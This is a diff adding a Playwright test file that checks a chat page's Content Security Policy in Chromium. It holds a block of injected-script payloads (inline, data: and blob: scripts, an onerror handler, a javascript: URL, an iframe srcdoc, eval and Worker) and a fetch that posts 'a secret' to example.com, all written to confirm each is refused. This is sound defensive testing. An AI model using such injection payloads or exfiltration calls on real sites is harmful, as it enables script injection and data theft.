@@ -1,0 +1,90 @@
+"""The page's security policy, in Chromium: all of the page works with it, and what gets in does not run."""
+
+import pytest
+from playwright.async_api import expect
+
+pytestmark = pytest.mark.browser
+in_browser = pytest.mark.asyncio(loop_scope="session")
+
+EVERYTHING = """# A heading
+
+```python
+print("code")
+```
+
+$$x^2$$ and \\(y\\)
+
+| a | b |
+|---|---|
+| 1 | 2 |
+
+```mermaid
+graph TD
+  A --> B
+```
+"""
+# What a script would do that came in; ``eval`` is tried later, as Playwright itself may.
+INJECTED = """async () => {
+  window.ran = [];
+  const script = (attributes) => document.head.append(Object.assign(document.createElement("script"), attributes));
+  script({ textContent: "ran.push('inline')" });
+  script({ src: "data:text/javascript,ran.push('data')" });
+  script({ src: URL.createObjectURL(new Blob(["ran.push('blob')"], { type: "text/javascript" })) });
+  const holder = document.createElement("div");
+  document.body.append(holder);
+  holder.innerHTML = `<img src="data:," onerror="ran.push('handler')">
+    <a id="led" href="javascript:ran.push('url')">x</a>
+    <iframe srcdoc="<script>parent.ran.push('frame')</` + `script>"></iframe>`;
+  holder.querySelector("#led").click();
+  await new Promise((resolve) => setTimeout(resolve, 300));
+  for (const attempt of [
+    () => eval("ran.push('eval')"),
+    () => Function("ran.push('Function')")(),
+    () => setTimeout("ran.push('timer')"),
+    () => new Worker(URL.createObjectURL(new Blob(["1"]))).addEventListener("message", () => ran.push("worker")),
+  ]) {
+    try {
+      attempt();
+    } catch {}
+  }
+  await new Promise((resolve) => setTimeout(resolve, 300));
+  const sent = await fetch("https://example.com/", { method: "POST", body: "a secret", mode: "no-cors" })
+    .then(() => "sent", () => "not sent");
+  holder.remove();
+  return [...ran, sent];
+}"""
+
+
+@in_browser
+async def test_nothing_that_the_page_does_is_against_its_policy(page, gemma):
+    """What Chromium refuses is a line of its console, which fails the test: see `chat_page.ChatPage`."""
+    gemma.answer = [EVERYTHING]
+    await page.ask("Show me everything")
+    await expect(page.answers.locator("code .token").first).to_be_visible()
+    await expect(page.answers.locator(".katex").first).to_be_visible()
+    await expect(page.answers.locator("svg[id^=mermaid]")).to_be_visible()
+    await page.tab.locator("#tools").get_by_role("button", name="Parameters").click()
+    await page.tab.locator("#temperature input[type=number]").fill("0.3")
+    await page.tab.locator("#persona").click()
+    await page.reload()
+    await expect(page.answers.locator("svg[id^=mermaid]")).to_be_visible()
+    assert page.problems == []
+
+
+@in_browser
+async def test_what_gets_into_the_page_does_not_run_and_sends_nothing_away(page):
+    assert await page.tab.evaluate(INJECTED) == ["not sent"]
+    assert len(page.problems) >= 5  # each refused
+    page.problems.clear()
+
+
+@in_browser
+async def test_no_other_page_can_hold_the_chat_in_a_frame(chromium, chat):
+    tab = await chromium.new_page()
+    try:
+        await tab.set_content(f'<iframe src="{chat.url}"></iframe>')
+        frame = await (await tab.query_selector("iframe")).content_frame()
+        await frame.wait_for_load_state()
+        assert await frame.query_selector("gradio-app") is None
+    finally:
+        await tab.close()
